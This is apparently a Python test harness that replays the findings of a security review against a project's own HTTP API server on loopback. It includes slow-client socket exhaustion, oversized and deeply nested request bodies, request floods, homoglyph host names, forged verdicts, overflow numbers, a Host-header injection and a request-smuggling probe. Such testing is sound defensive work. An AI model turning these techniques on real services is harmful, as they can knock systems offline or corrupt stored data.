"""The second round of findings against `advisor serve`, replayed one line each: slow and
partial requests from many clients, anonymous bodies, endless region lists and padding, ids of
900,000 characters, floods of sized answers, invented host spellings, trusted verdicts and checks, unbounded numbers, and
the small HTTP findings.
Used by attack_service.py; runs against whichever code `tests.api_server` serves (this
checkout's, or another's on PYTHONPATH: that is how the "before" figures were taken).
"""

from __future__ import annotations

import contextlib
import datetime as dt
import json
import random
import socket
import statistics
import threading
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import psutil

from probes.ops_table import OpsReport, OpsTable
from tests.test_estimate_api import probe_report

JSON = {"content-type": "application/json"}
SOCKETS = 1100
# source addresses on loopback: as many clients, each under a per-client cap of 64
CLIENTS = 20


def _open(url: str, source: str) -> socket.socket:
    u = urlsplit(url)
    return socket.create_connection((u.hostname, u.port), timeout=10, source_address=(source, 0))


def _health(url: str, tries: int = 10) -> list[int]:
    codes = []
    for _ in range(tries):
        try:
            codes.append(httpx.get(f"{url}/healthz", timeout=3).status_code)
        except httpx.HTTPError:
            codes.append(0)  # no answer at all
    return codes


def _first_health_200(url: str, limit_s: float) -> float | None:
    start = time.monotonic()
    while time.monotonic() - start < limit_s:
        if _health(url, 1) == [200]:
            return time.monotonic() - start
        time.sleep(0.25)
    return None


def slow_clients(url: str, name: str, first: bytes, then: bytes = b"") -> None:
    """SOCKETS sockets from CLIENTS addresses each send `first` (after `then`'s answer when a
    keep-alive request comes first) and nothing more; then /healthz is asked."""
    socks = []
    for i in range(SOCKETS):
        try:
            s = _open(url, f"127.0.1.{1 + i % CLIENTS}")
            if then:
                s.sendall(then)
                s.settimeout(2)
                with contextlib.suppress(OSError):
                    s.recv(65536)
            s.sendall(first)
            socks.append(s)
            if i % 50 == 49:  # the server reads each byte before the cap is reached
                time.sleep(0.1)
        except OSError:
            pass
    time.sleep(0.5)
    codes = _health(url)
    recovered = _first_health_200(url, 40)
    for s in socks:
        s.close()
    when = "never within 40 s" if recovered is None else f"after {recovered:.1f} s"
    print(
        f"{name}: {len(socks)} of {SOCKETS} sockets open; 10 x /healthz {sorted(set(codes))}; 200 again {when}"
    )


def _cpu_ms_each(
    server: psutil.Process, send: Callable[[], httpx.Response], count: int
) -> tuple[float, list[httpx.Response]]:
    """`count` calls of `send`: the server's CPU (user + system, psutil's ticks) a call, in ms,
    and the answers."""
    cpu = sum(server.cpu_times()[:2])
    answers = [send() for _ in range(count)]
    return (sum(server.cpu_times()[:2]) - cpu) / count * 1000, answers


def _codes(answers: list[httpx.Response]) -> list[int]:
    return sorted({r.status_code for r in answers})


def _largest(answers: list[httpx.Response]) -> int:
    return max(len(r.content) for r in answers)


def anonymous_bodies(url: str, pid: int) -> None:
    """A 1 MiB body of 74k nested objects without a token: its answer, the server's CPU time
    for it (psutil, the server process), and /healthz while four such clients post."""
    body = "[" + ",".join('{"a":{"b":1}}' for _ in range(74_000)) + "]"  # just under 1 MiB
    spent, answers = _cpu_ms_each(
        psutil.Process(pid),
        lambda: httpx.post(f"{url}/v1/probe-reports", content=body, headers=JSON, timeout=60),
        5,
    )
    print(
        f"anonymous {len(body) / 2**20:.2f} MiB body x5: {_codes(answers)}, server CPU "
        f"{spent:.0f} ms each"
    )
    alone = []
    for _ in range(20):
        t0 = time.perf_counter()
        httpx.get(f"{url}/healthz", timeout=30)
        alone.append(time.perf_counter() - t0)
    print(f"/healthz p50 alone: {statistics.median(alone) * 1000:.0f} ms")
    stop = threading.Event()

    def flood() -> None:
        while not stop.is_set():
            httpx.post(f"{url}/v1/probe-reports", content=body, headers=JSON, timeout=60)

    threads = [threading.Thread(target=flood) for _ in range(4)]
    for t in threads:
        t.start()
    times = []
    for _ in range(20):
        t0 = time.perf_counter()
        httpx.get(f"{url}/healthz", timeout=30)
        times.append(time.perf_counter() - t0)
    stop.set()
    for t in threads:
        t.join()
    print(f"/healthz p50 with 4 anonymous posters: {statistics.median(times) * 1000:.0f} ms")


def region_lists(url: str, pid: int, count: int = 1000, first: int = 0) -> None:
    """`count` anonymous recommendation requests, each with a region list not asked before
    (ordered pairs of the shipped catalog's regions, from the `first`-th): their answers, what
    the server's memory grew by and its CPU time a request."""
    from advisor.catalog import load_catalog

    regions = sorted(load_catalog().regions)
    pairs = [f"{a},{b}" for a in regions for b in regions if a != b][first : first + count]
    server = psutil.Process(pid)
    before = server.memory_info().rss
    cpu = sum(server.cpu_times()[:2])
    codes = set()
    with httpx.Client(base_url=url, timeout=30) as client:
        for spec in pairs:
            body = {"workload": "fine_tuning", "memory_gb": 80, "region": spec}
            codes.add(client.post("/v1/recommendations", json=body).status_code)
    grown = (server.memory_info().rss - before) / 2**20
    spent = (sum(server.cpu_times()[:2]) - cpu) / len(pairs)
    print(
        f"{len(pairs)} new region lists, anonymous: {sorted(codes)}; server RSS +{grown:.0f} MB, "
        f"server CPU {spent * 1000:.1f} ms a request"
    )


def padded_region(url: str) -> None:
    """One anonymous request whose region is padded with 100,000 spaces, every rejection
    listed: the answer's size."""
    body = {
        "workload": "fine_tuning",
        "memory_gb": 80,
        "region": "us-east-1" + " " * 100_000,
        "show_rejected": True,
    }
    r = httpx.post(f"{url}/v1/recommendations", json=body, timeout=60)
    print(f"region padded to 100 kB, rejections listed: {r.status_code}, {len(r.content):,} bytes")


def long_ids(url: str, pid: int, count: int = 5) -> None:
    """Anonymous requests naming a workload, model or provider of 900,000 characters: the
    server's CPU time for each (psutil) and the answer's size (an unknown id is echoed in its
    error, beside the "did you mean" found by comparing it with every known id)."""
    server = psutil.Process(pid)
    for field in ("workload", "model", "provider"):
        body = {"workload": "fine_tuning", field: "q" * 900_000}
        spent, answers = _cpu_ms_each(
            server,
            partial(httpx.post, f"{url}/v1/recommendations", json=body, timeout=60),
            count,
        )
        print(
            f"{field} of 900,000 characters, anonymous: {_codes(answers)}, "
            f"{_largest(answers):,} bytes, server CPU {spent:.0f} ms each"
        )


def long_path_ids(url: str, pid: int, count: int = 20) -> None:
    """Anonymous lookups of an accelerator and an instance type whose id is 15,000 characters
    (a request line within the 16 KiB header limit): the server's CPU time for each and the
    answer's size (an unknown id is compared with every known one and echoed)."""
    server = psutil.Process(pid)
    with httpx.Client(base_url=url, timeout=60) as client:
        for route in ("/v1/accelerators/", "/v1/instance-types/"):
            spent, answers = _cpu_ms_each(server, partial(client.get, route + "q" * 15_000), count)
            print(
                f"GET {route}<15,000 characters>, anonymous: {_codes(answers)}, "
                f"{_largest(answers):,} bytes, server CPU {spent:.1f} ms each"
            )


def _sized_flood(
    url: str,
    path: str,
    body: bytes,
    label: str,
    clients: int = CLIENTS,
    each: int = 2,
    other: tuple[str, bytes, dict[str, str]] | None = None,
) -> None:
    """`clients` anonymous clients (one address each), `each` connections each, post `body` to
    `path` over and over; meanwhile /healthz and another client's request are timed: `other`
    (path, body, headers) or a sized recommendation."""
    stop = threading.Event()
    codes: dict[int, int] = {}

    def flood(source: str) -> None:
        transport = httpx.HTTPTransport(local_address=source)
        with httpx.Client(base_url=url, timeout=300, transport=transport) as client:
            while not stop.is_set():
                r = client.post(path, content=body, headers=JSON)
                codes[r.status_code] = codes.get(r.status_code, 0) + 1

    def timed(
        method: str, target: str, content: bytes | None = None, headers: dict[str, str] = JSON
    ) -> tuple[float, int]:
        transport = httpx.HTTPTransport(local_address="127.0.0.200")
        with httpx.Client(base_url=url, timeout=300, transport=transport) as client:
            t0 = time.perf_counter()
            r = client.request(method, target, content=content, headers=headers)
            return time.perf_counter() - t0, r.status_code

    alone = [timed("GET", "/healthz")[0] for _ in range(10)]
    threads = [
        threading.Thread(target=flood, args=(f"127.0.0.{2 + i % clients}",), daemon=True)
        for i in range(each * clients)
    ]
    for t in threads:
        t.start()
    time.sleep(3)
    legit = json.dumps(
        {"workload": "high_throughput_inference", "model": "llama-3-8b", "request_rate": 2}
    ).encode()
    target, content, headers = other or ("/v1/recommendations", legit, JSON)
    what = "node report" if other else "sized recommendation"
    health, answers = [], []
    for _ in range(10):
        health.append(timed("GET", "/healthz")[0])
        answers.append(timed("POST", target, content, headers))
    stop.set()
    for t in threads:
        t.join(timeout=300)
    waits = [s for s, _ in answers]
    print(
        f"{label}, {clients} anonymous client(s) x {each} connections: /healthz p50 "
        f"{statistics.median(alone) * 1000:.0f} ms alone, under them p50 "
        f"{statistics.median(health) * 1000:.0f} ms max {max(health) * 1000:.0f} ms; another "
        f"client's {what} p50 {statistics.median(waits) * 1000:.0f} ms max "
        f"{max(waits) * 1000:.0f} ms {sorted({c for _, c in answers})}; their answers "
        f"{dict(sorted(codes.items()))}"
    )


def _trace_estimate() -> bytes:
    """An estimate of a served model under a trace of 14,000 requests: a body just under 1 MiB,
    0.3 s of CPU each."""
    rng = random.Random(1)
    trace = [
        {
            "arrival_s": round(i * 0.01, 2),
            "input_tokens": rng.randint(100, 8000),
            "output_tokens": rng.randint(10, 2000),
        }
        for i in range(14_000)
    ]
    estimate = {
        "workload": "high_throughput_inference",
        "model": "llama-3.1-405b",
        "instance_type": "p5.48xlarge",
        "trace": trace,
    }
    return json.dumps(estimate).encode()


def sized_floods(url: str) -> None:
    """Anonymous clients asking for sized answers without pause: estimates under a trace
    (_trace_estimate), then sized recommendations (70B at 20 requests/s) from many clients and
    from one client on 32 connections."""
    _sized_flood(url, "/v1/estimates", _trace_estimate(), "sized estimates")
    recommendation = {
        "workload": "high_throughput_inference",
        "model": "llama-3.1-70b",
        "request_rate": 20,
    }
    body = json.dumps(recommendation).encode()
    _sized_flood(url, "/v1/recommendations", body, "sized recommendations")
    _sized_flood(url, "/v1/recommendations", body, "sized recommendations", clients=1, each=32)


def report_under_estimates(url: str, token: str) -> None:
    """A node report (bench_fleet's 8-GPU report, 66 kB: parsed off the event loop, as the
    estimates' 1 MiB bodies are) posted with the write token while 20 anonymous clients post
    estimates under a trace."""
    from benchmarks.bench_fleet import day_bodies

    report = day_bodies(1, 0)[0].encode()
    headers = {**JSON, "Authorization": f"Bearer {token}"}
    _sized_flood(
        url,
        "/v1/estimates",
        _trace_estimate(),
        "sized estimates",
        other=("/v1/probe-reports", report, headers),
    )


def _post(url: str, token: str, body: dict[str, Any], path: str = "/v1/probe-reports") -> Any:
    auth = {"Authorization": f"Bearer {token}"}
    return httpx.post(f"{url}{path}", json=body, headers=auth, timeout=30)


def _recent(minutes: int) -> str:
    return (dt.datetime.now(dt.UTC) - dt.timedelta(minutes=minutes)).isoformat()


def host_spellings(url: str, token: str) -> None:
    spellings = ["h1", "H1", "\u04bb1", "h1\u200b", "h1.", " h1"]
    codes = []
    for i, host in enumerate(spellings):
        body = probe_report(host, 0.95)
        body["accelerator"], body["created_at"] = "h100-sxm", _recent(i + 1)
        codes.append(_post(url, token, body).status_code)
    summary = httpx.get(f"{url}/v1/fleet/summary", params={"accelerator": "h100-sxm"})
    hosts = summary.json()[0]["hosts"] if summary.json() else 0
    print(f"six spellings of h1 posted: {codes}; hosts in the fleet summary: {hosts}")


def trusted_verdicts(url: str, token: str) -> None:
    body = probe_report("verdict-host", 0.95)
    body["created_at"] = _recent(1)
    body["gpu_verdicts"] = [{"gpu": 0, "verdict": "fail"}]
    body["failed_ranks"] = [{"rank": 1, "detail": "killed"}]
    body["cluster"] = {"nodes": 1, "world_size": 2, "hosts": [], "verdict": "fail"}
    r = _post(url, token, body)
    print(f"verdict pass over failing GPU/cluster verdicts and a lost rank: stored {_stored(r)}")
    body = probe_report("one-percent-host", 0.01)
    body["created_at"] = _recent(1)
    r = _post(url, token, body)
    print(f"check marked pass at 1% of its expectation: stored {_stored(r)}")


def _stored(r: Any) -> str:
    if r.status_code >= 300:
        return f"{r.status_code}"
    return f"{r.status_code} verdict={r.json().get('verdict')}"


def wrong_hardware(url: str, token: str) -> None:
    body = probe_report("h200-vm", 0.9)
    body.update(created_at=_recent(1), accelerator="h200-sxm", expected_accelerator="mi300x")
    body["inventory"]["gpu"] = {"name": "NVIDIA H200"}
    body["checks"][0].update(measured=785.0, expected=915.18)
    r = _post(url, token, body)
    summary = httpx.get(f"{url}/v1/fleet/summary").json()
    filed = sorted(s["accelerator"] or "-" for s in summary)
    print(f"H200 run posted with --expect mi300x: {r.status_code}; summary accelerators {filed}")


def numbers(url: str, token: str) -> None:
    sent = probe_report("digits-host", 0.95)
    sent["created_at"], sent["device"] = _recent(1), "DEVICE"
    text = json.dumps(sent).replace('"DEVICE"', "9" * 309)
    auth = {"Authorization": f"Bearer {token}", **JSON}
    r = httpx.post(f"{url}/v1/probe-reports", content=text, headers=auth, timeout=30)
    print(f"a 309-digit integer in device: {r.status_code}")
    job = {
        "command": ["python", "train.py"],
        "exit_code": 0,
        "wall_s": 60.0,
        "sampled_s": 60.0,
        "interval_s": 1.0,
        "verdict": "findings",
        "findings": [
            {
                "code": "under_used",
                "summary": "s",
                "evidence": [],
                "fix": "f",
                "idle_usd_per_h": -5_000_000.0,
                "saving_usd_per_h": 1e308,
            }
        ],
        "gpu_hours_lost": 1e308,
    }
    report = {
        "created_at": _recent(1),
        "host": "money-host",
        "duration_s": 60.0,
        "interval_s": 1.0,
        "gpus": [],
        "job": job,
    }
    r = _post(url, token, report, "/v1/utilisation-reports")
    print(f"job report with $-5,000,000/h and 1e308 GPU-hours: {r.status_code}")


def http_findings(url: str) -> None:
    r = httpx.get(
        f"{url}/v1/accelerators/", headers={"Host": "evil.example"}, follow_redirects=False
    )
    print(f"trailing slash with Host: evil.example: {r.status_code} {r.headers.get('location')}")
    u = urlsplit(url)
    with socket.create_connection((u.hostname, u.port), timeout=5) as s:
        s.sendall(
            b"POST /v1/recommendations HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
        )
        s.settimeout(3)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except OSError:
            pass
    answers = [line.split(b" ")[1].decode() for line in out.split(b"\r\n") if line[:5] == b"HTTP/"]
    print(f"Content-Length with Transfer-Encoding, then a second request: answered {answers}")
    httpx.get(f"{url}/openapi.json")
    labels = [
        line.split('route="')[1].split('"')[0]
        for line in httpx.get(f"{url}/metrics").text.splitlines()
        if line.startswith("advisor_http_requests_total{") and 'method="GET"' in line
    ]
    print(f"/metrics route labels of GET requests: {sorted(set(labels))}")


def fleet_ops_reads(url: str, token: str, pid: int, hosts: int = 50, count: int = 5) -> None:
    """`hosts` hosts post the shipped H200 operator table (about 210 kB each) with the write
    token; then anonymous GETs of the fleet's table: the server's CPU for each (voting reads
    and parses every stored table of the accelerator)."""
    shipped = Path(__file__).resolve().parents[1] / "catalog" / "ops"
    table = OpsTable.model_validate_json(
        (shipped / "h200-sxm--torch2.11.0-cu130-driver580.json").read_bytes()
    )
    auth = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    with httpx.Client(base_url=url, timeout=120) as client:
        for i in range(hosts):
            report = OpsReport(created_at=dt.datetime.now(dt.UTC), host=f"ops-{i}", table=table)
            r = client.post("/v1/ops-tables", content=report.model_dump_json(), headers=auth)
            assert r.status_code in (200, 201), r.text
        server = psutil.Process(pid)

        def send() -> httpx.Response:
            return client.get("/v1/fleet/ops-tables/h200-sxm")

        first, answers = _cpu_ms_each(server, send, 1)  # the first after the writes
        spent, more = _cpu_ms_each(server, send, count)
    print(
        f"GET /v1/fleet/ops-tables/h200-sxm over {hosts} hosts' tables, anonymous: "
        f"{_codes(answers + more)}, server CPU {first:.0f} ms the first, {spent:.0f} ms each of "
        f"the next {count}"
    )


def catalog_reads(url: str, pid: int, count: int = 50) -> None:
    """Anonymous GETs of what depends on the catalog alone (the listings, filtered or not, the
    API page and document) and of what reads the store (/readyz, /metrics) beside /healthz: the
    server's CPU for each (psutil) and the answer's size."""
    server = psutil.Process(pid)
    with httpx.Client(base_url=url, timeout=60) as client:
        for path in (
            "/healthz",
            "/readyz",
            "/metrics",
            "/v1/accelerators",
            "/v1/accelerators?vendor=nvidia",
            "/v1/instance-types",
            "/v1/instance-types?provider=aws",
            "/v1/instance-types?region=us-east-1",
            "/docs",
            "/openapi.json",
        ):
            client.get(path)  # the first builds what is kept
            spent, answers = _cpu_ms_each(server, partial(client.get, path), count)
            print(
                f"GET {path}, anonymous: {answers[-1].status_code}, "
                f"{len(answers[-1].content):,} bytes, server CPU {spent:.1f} ms each"
            )


def replay(url: str, token: str, pid: int) -> None:
    for name, first, then in (
        ("one byte each", b"G", b""),
        (
            "a partial body each",
            b"POST /v1/recommendations HTTP/1.1\r\nHost: x\r\n"
            b"Content-Length: 100\r\nContent-Type: application/json\r\n\r\n{",
            b"",
        ),
        ("one byte after a keep-alive answer", b"G", b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"),
    ):
        slow_clients(url, name, first, then)
        time.sleep(2)
    anonymous_bodies(url, pid)
    region_lists(url, pid)
    padded_region(url)
    long_ids(url, pid)
    long_path_ids(url, pid)
    sized_floods(url)
    report_under_estimates(url, token)
    host_spellings(url, token)
    trusted_verdicts(url, token)
    wrong_hardware(url, token)
    numbers(url, token)
    http_findings(url)
    fleet_ops_reads(url, token, pid)
    catalog_reads(url, pid)
